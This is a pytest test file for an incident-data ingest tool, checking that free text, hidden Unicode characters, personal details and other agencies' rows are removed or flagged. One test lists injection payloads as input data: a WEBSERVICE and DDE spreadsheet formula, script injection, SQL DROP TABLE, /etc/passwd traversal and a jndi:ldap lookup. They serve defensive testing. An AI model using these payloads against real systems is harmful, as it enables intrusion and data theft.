"""Bad text: what is hidden, hostile, endless or personal; and whose row it is."""

import pytest

from ingest.table import Table

COLUMNS = {"reference": "Ref", "occurred": "When", "strands": "Why", "category": "What"}


def row(ref="R1", why="Race", what="Graffiti", **more):
    return {"Ref": ref, "When": "13/05/2025", "Why": why, "What": what, **more}


def everything(prepared):
    """Write down all that leaves the door."""
    return prepared.incidents.write_csv() + prepared.set_aside.write_csv() + " ".join(prepared.notes)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("👨‍👩‍👧 🏴󠁧󠁢󠁷󠁬󠁳󠁿 shouted", marks=pytest.mark.bad_input("B134")),
        pytest.param("![x](http://host/p.png)", marks=pytest.mark.bad_input("B139")),
        pytest.param(":material/home: and $latex$ and :red[x]", marks=pytest.mark.bad_input("B140")),
        pytest.param("photo\u202egpj.exe", marks=pytest.mark.bad_input("B136")),
        pytest.param("Z" + "\u0335" * 5_000, marks=pytest.mark.bad_input("B146")),
        '=WEBSERVICE("http://host/")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "<img src=x onerror=alert(1)>",
        "'; DROP TABLE incidents; --",
        "../../etc/passwd",
        "C:\\Windows\\System32",
        "file:///etc/passwd",
        "${jndi:ldap://host/x}",
        "{{7*7}}",
        "line\rone\ntwo\x0bthree\x1b[31m",
        "long " * 1_900,
        "   \t ",
        "раураӏ",
    ],
)
def test_free_text_of_any_kind_is_dropped_at_the_door(take_in, all_kept, text):
    prepared = take_in([row(Notes=text), row(ref="R2", Notes="nothing")], COLUMNS)
    all_kept(prepared, "Columns not read and not kept: Notes")
    if text.strip():
        assert text not in everything(prepared)
    assert "host" not in everything(prepared) and "passwd" not in everything(prepared)


@pytest.mark.bad_input("B136")
def test_hidden_direction_marks_are_removed_and_counted(take_in, all_kept):
    prepared = take_in([row(what="\u202eGraffiti"), row(ref="R2\u202c", what="\u200fThreats")], COLUMNS)
    all_kept(prepared, "Hidden characters removed in 3 cells.")
    assert prepared.incidents.select("reference", "category").rows() == [
        ("R1", "graffiti"),
        ("R2", "threats"),
    ]


@pytest.mark.bad_input("B137")
@pytest.mark.parametrize("mark", ["\u200b", "\u200c", "\u2060", "\u00ad", "\ufeff"])
def test_hidden_characters_inside_a_word_do_not_change_it(take_in, all_kept, mark):
    prepared = take_in([row(why=f"Ra{mark}ce")], COLUMNS)
    all_kept(prepared, "Hidden characters removed in 1 cell.")
    assert prepared.incidents["strands"].to_list() == ["race"]


@pytest.mark.parametrize("text", ["\x00Race", "Race\x07", "\tRace", "Race\r\n", "\u2003Race\u3000"])
def test_control_characters_and_odd_spaces_do_not_change_a_word(take_in, all_kept, text):
    prepared = take_in([row(why=text)], COLUMNS)
    all_kept(prepared)
    assert prepared.incidents["strands"].to_list() == ["race"]


@pytest.mark.bad_input("B145")
@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("Ring 07700 900123 first", "a telephone number"),
        ("NI QQ 12 34 56 C", "a National Insurance number"),
        ("write to a.person@example.org", "an e-mail address"),
        ("DOB 12/03/1984", "a date of birth"),
        ("Mr Invented said so", "a person's name"),
        ("a man called Zebedee", "a person's name"),
        ("12 Nowhere Street, ZZ1 1AA", "a house number with a full postcode"),
    ],
)
def test_personal_details_in_a_column_that_is_not_read_are_said_and_never_repeated(
    take_in, all_kept, text, said
):
    prepared = take_in(
        [row(Notes=text), row(ref="R2", Notes="paint on a wall"), row(ref="R3", Notes=text)], COLUMNS
    )
    all_kept(prepared, f"Column 'Notes': possible personal details in 2 cells ({said}")
    assert any("The column is not kept" in note for note in prepared.notes)
    assert not any(
        part in everything(prepared)
        for part in ("07700", "QQ", "example.org", "1984", "Invented", "Zebedee", "Nowhere")
    )


def test_harmless_text_is_not_called_personal(take_in):
    texts = [
        "Paint on a wall near Victoria Park",
        "CAD 1234 of 03 April",
        "at 14:30 by the A10",
        "outside Mr Chips",
    ]
    prepared = take_in([row(ref=f"R{i}", Notes=text) for i, text in enumerate(texts)], COLUMNS)
    assert not any("personal" in note for note in prepared.notes)


@pytest.mark.bad_input("B221")
def test_rows_of_another_agency_are_set_aside(take_in, only_set_aside):
    rows = [row(Sender="Somebody Else"), row(ref="R2", Sender="wren  council"), row(ref="R3", Sender=None)]
    prepared = take_in(rows, {**COLUMNS, "agency": "Sender"})
    only_set_aside(prepared, 2, "you can send only for Wren Council.", "Sender")
    assert "Somebody" not in everything(prepared)
    assert set(prepared.incidents["agency"]) == {"Wren Council"}


@pytest.mark.parametrize("header", ["Agency", "Sending agency", "Organisation"])
def test_the_column_that_says_whose_row_it_is_is_known_by_name(header):
    from ingest.guess import guess_columns

    assert guess_columns(["Ref", "Date", header])["agency"][0] == header


@pytest.mark.bad_input("B026")
def test_a_header_without_rows_is_a_nil_return(take_in, make_table):
    full = make_table([row()])
    empty = Table(full.frame.clear(), full.rows.clear())
    prepared = take_in(empty, COLUMNS)
    assert (prepared.read, prepared.incidents.height, prepared.set_aside.height) == (0, 0, 0)
    assert any("nil return" in note for note in prepared.notes)


@pytest.mark.bad_input("B037")
def test_a_row_edited_and_sent_again_is_the_same_incident_with_other_content(take_in):
    rows = [row(ref=f"R{i}") for i in range(500)]
    first = take_in(rows, COLUMNS).incidents
    again = take_in([*rows[:7], row(ref="R7", what="Threats"), *rows[8:]], COLUMNS).incidents
    assert first["reference"].to_list() == again["reference"].to_list()
    changed = (first["category"] != again["category"]).to_list()
    assert changed.count(True) == 1 and changed.index(True) == 7
